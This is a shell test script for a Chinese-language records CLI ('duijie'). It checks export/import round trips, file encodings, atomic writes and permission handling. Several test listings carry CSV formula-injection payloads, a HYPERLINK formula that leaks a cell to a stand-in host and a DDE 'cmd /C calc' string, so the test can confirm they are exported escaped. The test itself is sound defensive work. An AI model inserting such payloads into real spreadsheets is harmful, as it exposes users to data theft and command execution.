#!/bin/bash
# Export and re-import: GBK CSV and UTF-8-with-BOM CSV and JSON Lines
# round trips give the same records; XLSX export writes a workbook.
. "$(dirname "$0")/lib.sh"
a="$T/a.db"
"$DUIJIE" import --db "$a" "$FIX/orgs.csv" "$FIX/listings.csv" >/dev/null || { not_ok "fixture import"; exit 1; }
# values a spreadsheet would run as formulas: exported with an apostrophe in
# front (text in Excel), imported back as they were
for t in '=HYPERLINK("http://x/?"&A1,"点击")' "+cmd|' /C calc'!A0" "-40℃耐寒材料" "'=已有撇号"; do
    expect_exit "listing titled $t" 0 "$DUIJIE" listing add --db "$a" "标题=$t" 机构=桂林电子科技大学 供需=供给 类别=技术成果 "内容=@SUM(1+1) $t"
done

for fmt in gbk csv jsonl; do
    ext=csv; [ "$fmt" = jsonl ] && ext=jsonl
    mkdir -p "$T/$fmt"
    check "$fmt: export orgs" "$DUIJIE" export orgs --db "$a" --format "$fmt" -o "$T/$fmt/orgs.$ext"
    check "$fmt: export listings" "$DUIJIE" export listings --db "$a" --format "$fmt" -o "$T/$fmt/listings.$ext"
    if [ "$fmt" = gbk ]; then
        if iconv -f UTF-8 -t UTF-8 "$T/$fmt/orgs.csv" >/dev/null 2>&1; then not_ok "gbk: file is not UTF-8"; else ok "gbk: file is not UTF-8"; fi
        iconv -f GB18030 -t UTF-8 "$T/$fmt/orgs.csv" | grep -q 桂林电子科技大学 && ok "gbk: file is GB18030" || not_ok "gbk: file is GB18030"
    fi
    if [ "$fmt" = csv ]; then
        grep -qF "\"'=HYPERLINK(\"\"http" "$T/$fmt/listings.csv" && grep -qF "'-40℃" "$T/$fmt/listings.csv" \
            && grep -qF "''=已有撇号" "$T/$fmt/listings.csv" && grep -qF "'@SUM" "$T/$fmt/listings.csv" \
            && ok "csv: formula-like values start with an apostrophe" \
            || not_ok "csv: formula-like values start with an apostrophe" "$(grep -F SUM "$T/$fmt/listings.csv" | head -3)"
        head -c 3 "$T/$fmt/orgs.csv" | od -An -tx1 | grep -q "ef bb bf" && ok "csv: starts with a UTF-8 BOM" || not_ok "csv: starts with a UTF-8 BOM"
    fi
    b="$T/$fmt.db"
    check "$fmt: re-import into a fresh database" "$DUIJIE" import --db "$b" "$T/$fmt/orgs.$ext" "$T/$fmt/listings.$ext"
    for type in orgs listings; do
        "$DUIJIE" export "$type" --db "$a" --format jsonl >"$T/$fmt.$type.a"
        "$DUIJIE" export "$type" --db "$b" --format jsonl >"$T/$fmt.$type.b"
        if cmp -s "$T/$fmt.$type.a" "$T/$fmt.$type.b" && [ -s "$T/$fmt.$type.a" ]; then ok "$fmt: $type round trip is exact"
        else not_ok "$fmt: $type round trip is exact" "$(diff "$T/$fmt.$type.a" "$T/$fmt.$type.b" | head -5)"; fi
    done
done

# listings without 编号 (the four added above) are found again by 机构, 供需
# and 标题: an export imported back into its own database changes nothing,
# and two identical rows of one file stay two listings however often imported
"$DUIJIE" export listings --db "$a" --format jsonl >"$T/self.before"
check "own export imported back" "$DUIJIE" import --db "$a" "$T/csv/orgs.csv" "$T/csv/listings.csv"
"$DUIJIE" export listings --db "$a" --format jsonl >"$T/self.after"
if cmp -s "$T/self.before" "$T/self.after"; then ok "listings without 编号 are not added again"
else not_ok "listings without 编号 are not added again" "$(diff "$T/self.before" "$T/self.after" | head -5)"; fi
printf '机构,供需,类别,标题,内容\n桂林电子科技大学,需求,技术成果,同名需求,甲\n桂林电子科技大学,需求,技术成果,同名需求,甲\n' >"$T/twice.csv"
"$DUIJIE" import --db "$a" --type listings "$T/twice.csv" >/dev/null
sed -i 's/,甲$/,乙/' "$T/twice.csv"
check "a file without 编号 imported again" "$DUIJIE" import --db "$a" --type listings "$T/twice.csv"
got=$("$DUIJIE" export listings --db "$a" --format jsonl | grep -c '同名需求.*"乙"')
[ "$got" = 2 ] && [ "$("$DUIJIE" export listings --db "$a" --format jsonl | grep -c 同名需求)" = 2 ] \
    && ok "identical rows without 编号 update one stored listing each" \
    || not_ok "identical rows without 编号 update one stored listing each" "$("$DUIJIE" export listings --db "$a" --format jsonl | grep 同名需求)"

check "xlsx: export listings" "$DUIJIE" export listings --db "$a" --format xlsx -o "$T/l.xlsx"
unzip -p "$T/l.xlsx" xl/sharedStrings.xml 2>/dev/null | grep -q 多天线认知无线数据传输技术 \
    && ok "xlsx: workbook holds the listing titles" || python3 -c 'import zipfile,sys; z=zipfile.ZipFile(sys.argv[1]); assert "多天线认知无线数据传输技术" in z.read("xl/sharedStrings.xml").decode()' "$T/l.xlsx" \
    && ok "xlsx: workbook holds the listing titles" || not_ok "xlsx: workbook holds the listing titles"
expect_exit "xlsx to stdout is a usage error" 2 "$DUIJIE" export listings --db "$a" --format xlsx

# A re-import with fewer columns changes those and keeps the rest: a closed
# listing stays closed, its keywords and industry stay; an empty cell of a
# column the file has still clears it.
id=$(sqlite3 "$a" "select id from listings where code='T-GUET-01'")
"$DUIJIE" listing close "$id" --db "$a" >/dev/null
printf '编号,机构,供需,类别,标题,内容,价格上限\nT-GUET-01,桂林电子科技大学,供给,技术成果,新标题,新内容,\n' >"$T/few.csv"
expect_exit "re-import of a listing with fewer columns" 0 "$DUIJIE" import --db "$a" "$T/few.csv"
row=$(sqlite3 "$a" "select title, status, keywords, industry, ifnull(price_max,'null'), price_min from listings where id=$id")
[ "$row" = "新标题|closed|认知无线电;多天线;频谱|I65|null|50000000" ] \
    && ok "listing re-import: named columns change, missing ones stay, an empty cell clears" \
    || not_ok "listing re-import: named columns change, missing ones stay, an empty cell clears" "$row"
printf '名称,类型,地区\n桂林电子科技大学,高校,450300\n' >"$T/few_orgs.csv"
expect_exit "re-import of an org with fewer columns" 0 "$DUIJIE" import --db "$a" "$T/few_orgs.csv"
row=$(sqlite3 "$a" "select industry, description, (select name from orgs p where p.id=o.park_id) from orgs o where name='桂林电子科技大学'")
[ "$row" = "P83|电子信息特色高校|桂林高新区" ] && ok "org re-import keeps 行业, 简介 and 所属园区" \
    || not_ok "org re-import keeps 行业, 简介 and 所属园区" "$row"

# An organisation whose park was created after it still exports below its park,
# so the file imports into an empty database.
o="$T/order.db"
"$DUIJIE" init --db "$o" >/dev/null
"$DUIJIE" org add 名称=企业甲 类型=企业 地区=450300 --db "$o" >/dev/null
"$DUIJIE" org add 名称=园区乙 类型=园区 地区=450300 --db "$o" >/dev/null
"$DUIJIE" org update "$(sqlite3 "$o" "select id from orgs where name='企业甲'")" 所属园区=园区乙 --db "$o" >/dev/null
# a park inside another park, created after both: the parents come first
"$DUIJIE" org add 名称=高新区丙 类型=园区 地区=450300 --db "$o" >/dev/null
"$DUIJIE" org update "$(sqlite3 "$o" "select id from orgs where name='园区乙'")" 所属园区=高新区丙 --db "$o" >/dev/null
"$DUIJIE" export orgs --db "$o" -o "$T/order.csv" >/dev/null
expect_exit "orgs exported with a later park import into an empty database" 0 "$DUIJIE" import --db "$T/order2.db" "$T/order.csv"
[ "$(sqlite3 "$T/order2.db" "select p.name from orgs o join orgs p on p.id=o.park_id where o.name='企业甲'")" = 园区乙 ] \
    && [ "$(sqlite3 "$T/order2.db" "select p.name from orgs o join orgs p on p.id=o.park_id where o.name='园区乙'")" = 高新区丙 ] \
    && ok "the member keeps its park, the park its own" || not_ok "the member keeps its park, the park its own" "$(cat "$T/err")"

# ---- an export is written whole or not at all: a missing directory or a
# directory in the file's place is our one line naming the file and reason,
# nothing is left beside it, and a file already there is replaced whole
for fmt in xlsx csv jsonl; do
    expect_exit "$fmt export into a missing directory fails (1)" 1 "$DUIJIE" export listings --db "$a" --format "$fmt" -o "$T/nodir/x.$fmt"
    [ "$(cat "$T/err")" = "duijie export: cannot write $T/nodir/x.$fmt: No such file or directory" ] \
        && ok "... says so in one line" || not_ok "$fmt export into a missing directory: message" "$(cat "$T/err")"
    mkdir -p "$T/dir.$fmt"
    expect_exit "$fmt export onto a directory fails (1)" 1 "$DUIJIE" export listings --db "$a" --format "$fmt" -o "$T/dir.$fmt"
    err_has "... naming the file and the reason" "cannot write $T/dir.$fmt: Is a directory"
    [ -z "$(find "$T" -maxdepth 1 -name '*.tmp-*')" ] && ok "... and leaves no temporary file" \
        || not_ok "$fmt export left a temporary file" "$(find "$T" -maxdepth 1 -name '*.tmp-*')"
    printf 'old content that is longer than nothing\n%.0s' $(seq 1 500) >"$T/old.$fmt"
    check "$fmt export over an existing file" "$DUIJIE" export listings --db "$a" --format "$fmt" -o "$T/old.$fmt"
    if [ "$fmt" = xlsx ]; then unzip -p "$T/old.xlsx" xl/sharedStrings.xml 2>/dev/null | grep -q 同名需求; else grep -q 同名需求 "$T/old.$fmt"; fi \
        && ! grep -q 'old content' "$T/old.$fmt" && ok "... replaces it whole" || not_ok "$fmt export over an existing file" "$(head -c 200 "$T/old.$fmt")"
done
# a write that fails part-way (a file size limit: EFBIG, not SIGXFSZ) is an
# error, and the file that was there stays as it was
"$DUIJIE" gen listings --count 300 --seed 3 --format csv --out "$T/gl.csv" --orgs-out "$T/go.csv" >/dev/null
"$DUIJIE" import --db "$T/g.db" "$T/go.csv" "$T/gl.csv" >/dev/null
echo "the old export" >"$T/keep.csv"
(ulimit -f 100; "$DUIJIE" export listings --db "$T/g.db" -o "$T/keep.csv" >"$T/out" 2>"$T/err"); rc=$?
[ "$rc" = 1 ] && grep -q "cannot write $T/keep.csv: File too large" "$T/err" && ok "an export cut short by a size limit fails (1), saying so" \
    || not_ok "an export cut short by a size limit fails (1), saying so" "exit $rc: $(cat "$T/err")"
[ "$(cat "$T/keep.csv")" = "the old export" ] && [ -z "$(find "$T" -maxdepth 1 -name '*.tmp-*')" ] \
    && ok "... the file there is unchanged, nothing left beside it" || not_ok "... the file there is unchanged" "$(head -c 100 "$T/keep.csv")"

# ---- over a file that is there, an export acts as a write in place would
# (cp): the file keeps its permission bits (not the temporary file's), a new
# file is 0666 less the umask, and a file the user may not write is refused
# and kept, though its directory would let the rename replace it
for fmt in xlsx csv jsonl; do
    echo old >"$T/mode.$fmt"; chmod 640 "$T/mode.$fmt"
    check "$fmt export over a 0640 file" "$DUIJIE" export listings --db "$a" --format "$fmt" -o "$T/mode.$fmt"
    [ "$(stat -c %a "$T/mode.$fmt")" = 640 ] && ! grep -q '^old$' "$T/mode.$fmt" && ok "... replaces it, keeping mode 640" \
        || not_ok "$fmt export over a 0640 file keeps its mode" "mode $(stat -c %a "$T/mode.$fmt")"
    (umask 027; "$DUIJIE" export listings --db "$a" --format "$fmt" -o "$T/fresh.$fmt" >/dev/null)
    [ "$(stat -c %a "$T/fresh.$fmt")" = 640 ] && ok "$fmt export to a new file: 0666 less the umask (027: 640)" \
        || not_ok "$fmt export to a new file: 0666 less the umask" "mode $(stat -c %a "$T/fresh.$fmt")"
done
if user_can_run; then
    user_dir "$T/ro"
    sqlite3 "$a" ".backup '$T/ro/a.db'"
    [ "$(id -u)" = 0 ] && chown nobody "$T/ro/a.db"
    for fmt in xlsx csv jsonl; do
        echo keep >"$T/ro/x.$fmt"; chmod 444 "$T/ro/x.$fmt"
        expect_exit "$fmt export over a read-only file fails (1) (as $(as_user id -un))" 1 as_user "$DUIJIE" export listings --db "$T/ro/a.db" --format "$fmt" -o "$T/ro/x.$fmt"
        [ "$(cat "$T/err")" = "duijie export: cannot write $T/ro/x.$fmt: Permission denied" ] \
            && ok "... in one line naming the file" || not_ok "$fmt export over a read-only file: message" "$(cat "$T/err")"
        [ "$(cat "$T/ro/x.$fmt")" = keep ] && [ "$(stat -c %a "$T/ro/x.$fmt")" = 444 ] && [ -z "$(find "$T/ro" -name '*.tmp-*')" ] \
            && ok "... the file kept as it was, nothing left beside it" || not_ok "$fmt export over a read-only file replaced it" "$(head -c 100 "$T/ro/x.$fmt")"
    done
else
    echo "# SKIP export over a read-only file: running as root and nobody cannot run $DUIJIE (setpriv from util-linux, a build nobody may enter?)"
fi
